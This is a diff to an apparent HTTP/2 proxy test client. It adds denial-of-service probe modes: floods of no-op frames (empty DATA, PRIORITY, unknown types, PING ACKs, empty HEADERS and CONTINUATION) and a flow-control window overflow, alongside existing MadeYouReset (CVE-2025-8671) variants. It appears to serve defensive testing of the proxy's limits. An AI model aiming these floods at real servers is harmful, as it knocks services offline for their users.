@@ -8,7 +8,11 @@ big-headers, too-many-streams, table-size, silent (a client that never
 answers PINGs: prints how long until the proxy closed it), and the
 MadeYouReset variants (streams the proxy must reset itself, CVE-2025-8671):
 reset-window-overflow, reset-data-after-end, reset-malformed,
-reset-zero-window-update, reset-content-length. Prints one line:
+reset-zero-window-update, reset-content-length; and floods of frames that
+do no work: idle-empty-data, idle-priority, idle-unknown, idle-ping-ack,
+idle-empty-headers, idle-mixed, idle-with-work (two idle frames per 1-byte
+DATA frame), plus settings-window-overflow (SETTINGS_INITIAL_WINDOW_SIZE
+2^31). Prints one line:
   goaway <error code>     the proxy sent GOAWAY with that code
   reset <codes>           streams were reset (distinct codes, comma list)
   response <status>       a response arrived
@@ -187,6 +191,34 @@ def main():
                 s.sendall(out)
         except OSError:
             pass
+    elif attack.startswith("idle-"):
+        # POST /echo, body never ended; then frames that do no work.
+        post = b"\x83\x86\x04\x05/echo\x01\x04test"
+        s.sendall(frame(0x1, 0x4, 1, post))
+        kinds = {
+            "idle-empty-data": [frame(0x0, 0x0, 1, b"")],
+            "idle-priority": [frame(0x2, 0x0, 1, b"\x00\x00\x00\x00\x10")],
+            "idle-unknown": [frame(0xfa, 0x0, 0, b"")],
+            "idle-ping-ack": [frame(0x6, 0x1, 0, b"\x00" * 8)],
+            # An empty header block fragment on a new stream, ended at once
+            # by an empty CONTINUATION: one opens a stream, so both count.
+            "idle-empty-headers": None,
+            "idle-mixed": [frame(0x0, 0x0, 1, b""), frame(0x2, 0x0, 1, b"\x00\x00\x00\x00\x10"),
+                           frame(0xfa, 0x0, 0, b""), frame(0x6, 0x1, 0, b"\x00" * 8)],
+            "idle-with-work": [frame(0x0, 0x0, 1, b"x"), frame(0x0, 0x0, 1, b""), frame(0x2, 0x0, 1, b"\x00\x00\x00\x00\x10")],
+        }[attack]
+        try:
+            for i in range(20000):
+                if kinds is None:
+                    sid = 2 * i + 3
+                    batch = [frame(0x1, 0x0, sid, b""), frame(0x9, 0x0, sid, b""), frame(0x9, 0x4, sid, b"")]
+                else:
+                    batch = kinds * 10
+                s.sendall(b"".join(batch))
+        except OSError:
+            pass
+    elif attack == "settings-window-overflow":
+        s.sendall(frame(0x4, 0x0, 0, struct.pack(">HI", 0x4, 2**31)))
     elif attack == "silent":
         # Never answers anything (PINGs included): reads until the proxy
         # closes the connection.
